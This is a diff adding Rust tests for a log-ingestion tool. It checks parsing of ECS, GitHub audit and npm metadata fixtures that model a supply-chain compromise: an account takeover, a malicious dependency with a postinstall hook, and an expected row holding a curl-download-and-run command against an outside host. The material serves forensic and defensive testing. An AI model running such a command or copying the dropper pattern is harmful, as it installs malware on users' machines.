@@ -1,0 +1,96 @@
+//! Formats with no public sample, on fixtures written from their documentation
+//! (tests/data/documented): ECS endpoint events, GitHub audit logs, npm package metadata.
+
+mod common;
+
+use common::{documented, ingest_files, one_row, query};
+use spoor::core::Format;
+
+#[test]
+fn ecs_events_are_routed_by_category() {
+    let t = ingest_files(&[documented("ecs_endpoint.ndjson")]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::Ecs));
+    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (10, 7, 2, 1));
+    assert_eq!(f.reject_reasons.keys().collect::<Vec<_>>(), ["no valid @timestamp"]);
+    assert_eq!(f.skip_reasons.get("ECS process event that is not a start"), Some(&1));
+
+    let rows = query(
+        &t.store,
+        r#"SELECT "host.name", "process.entity_id", "process.name", "process.command_line", "process.parent.entity_id", "process.parent.name", "process.hash.sha256"
+           FROM process ORDER BY "@timestamp""#,
+    );
+    assert_eq!(
+        rows,
+        [
+            ["dev-laptop-07", "p-node-1", "node", "node setup.js", "p-npm-1", "npm", "NULL"],
+            [
+                "dev-laptop-07",
+                "p-sh-1",
+                "sh",
+                "/bin/sh -c curl -o /tmp/ld.py -s http://sfrclak.com:8000/6202033 && nohup python3 /tmp/ld.py &",
+                "p-node-1",
+                "node",
+                "abcdef0123"
+            ],
+        ]
+    );
+    let row = one_row(
+        &t.store,
+        r#"SELECT "destination.ip", "destination.port", "destination.domain", "network.transport", "network.direction", "log.file.line" FROM network"#,
+    );
+    assert_eq!(row, ["198.51.100.73", "8000", "sfrclak.com", "tcp", "egress", "4"]);
+    let row = one_row(&t.store, r#"SELECT "dns.question.name", "dns.question.type", "dns.answers", "dns.resolved_ip" FROM dns"#);
+    assert_eq!(row, ["sfrclak.com", "A", "[198.51.100.73]", "[198.51.100.73]"]);
+    let rows = query(&t.store, r#"SELECT "event.action", "file.name", "file.extension", "file.hash.sha256" FROM file ORDER BY "@timestamp""#);
+    assert_eq!(rows, [["creation", "ld.py", "py", "feedbeef"], ["deletion", "setup.js", "js", "NULL"]]);
+    let row = one_row(&t.store, r#"SELECT "registry.value", "registry.data.strings", "registry.data.type", "event.action" FROM registry"#);
+    assert_eq!(row, ["wt", r"C:\ProgramData\wt.exe", "REG_SZ", "value_set"]);
+}
+
+#[test]
+fn github_audit_log_array_and_stream() {
+    let t = ingest_files(&[documented("github_audit_org.json"), documented("github_audit_stream.ndjson")]);
+    assert_eq!(t.summary.files.iter().map(|f| f.format).collect::<Vec<_>>(), [Some(Format::GithubAudit); 2]);
+    let rows = query(
+        &t.store,
+        r#"SELECT "@timestamp", "event.action", "audit.original_action", "user.name", "user.target.name", "audit.old_value", "audit.new_value",
+                  "source.ip", "source.geo.country_iso_code", "organization.name", "package.name", "package.version", "log.file.line"
+           FROM audit ORDER BY "@timestamp""#,
+    );
+    let expected = [
+        ["2026-03-30T19:15:00Z", "email_change", "billing.change_email", "lead-maintainer", "NULL", "lead@example.com", "ifstap@proton.me", "2001:db8::7", "DE", "NULL", "NULL", "NULL", "1"],
+        ["2026-03-30T19:20:00Z", "token_create", "personal_access_token.create", "lead-maintainer", "NULL", "NULL", "NULL", "NULL", "DE", "NULL", "NULL", "NULL", "2"],
+        ["2026-03-30T20:00:00Z", "member_add", "org.add_member", "octo-admin", "new-dev", "NULL", "NULL", "NULL", "US", "example-org", "NULL", "NULL", "4"],
+        ["2026-03-30T23:30:00.123Z", "mfa_disable", "org.disable_two_factor_requirement", "octo-admin", "NULL", "NULL", "NULL", "203.0.113.7", "NL", "example-org", "NULL", "NULL", "16"],
+        ["2026-03-30T23:40:00Z", "package_publish", "packages.package_version_published", "octo-admin", "NULL", "NULL", "NULL", "NULL", "NULL", "example-org", "example-lib", "2.0.1", "27"],
+    ];
+    assert_eq!(rows, expected.map(|r| r.map(String::from).to_vec()).to_vec());
+    let stream = &t.summary.files[1];
+    assert_eq!((stream.read, stream.rejected), (3, 1));
+    assert_eq!(stream.reject_reasons.keys().collect::<Vec<_>>(), ["no valid @timestamp or created_at"]);
+}
+
+#[test]
+fn npm_metadata_gives_one_publish_per_version() {
+    let t = ingest_files(&[documented("npm_metadata_plain-crypto-js.json"), documented("npm_metadata_axios.json")]);
+    assert_eq!(t.summary.files.iter().map(|f| f.format).collect::<Vec<_>>(), [Some(Format::NpmMetadata); 2]);
+    let rows = query(
+        &t.store,
+        r#"SELECT "@timestamp", "package.name", "package.version", "user.name", "user.email", "package.scripts", "log.file.line"
+           FROM audit WHERE "event.action" = 'package_publish' ORDER BY "@timestamp""#,
+    );
+    let expected = [
+        ["2026-03-27T19:01:40Z", "axios", "1.14.0", "lead-maintainer", "lead@example.com", "[]", "1"],
+        ["2026-03-30T05:57:00Z", "plain-crypto-js", "4.2.0", "nrwise", "nrwise@proton.me", "[]", "6"],
+        ["2026-03-30T23:59:12Z", "plain-crypto-js", "4.2.1", "nrwise", "nrwise@proton.me", "[postinstall: node setup.js]", "15"],
+        ["2026-03-31T00:21:58Z", "axios", "1.14.1", "lead-maintainer", "ifstap@proton.me", "[]", "1"],
+    ];
+    assert_eq!(rows, expected.map(|r| r.map(String::from).to_vec()).to_vec());
+    let deps = one_row(&t.store, r#"SELECT "package.dependencies" FROM audit WHERE "package.version" = '1.14.1'"#);
+    assert_eq!(deps[0], "[follow-redirects@^1.15.6, form-data@^4.0.4, plain-crypto-js@^4.2.1, proxy-from-env@^1.1.0]");
+    // A version with no publish time is rejected with the reason, not dropped.
+    let f = &t.summary.files[0];
+    assert_eq!((f.read, f.stored, f.rejected), (3, 2, 1));
+    assert_eq!(f.reject_reasons.keys().collect::<Vec<_>>(), ["plain-crypto-js@4.2.2: no publish time in `time`"]);
+}
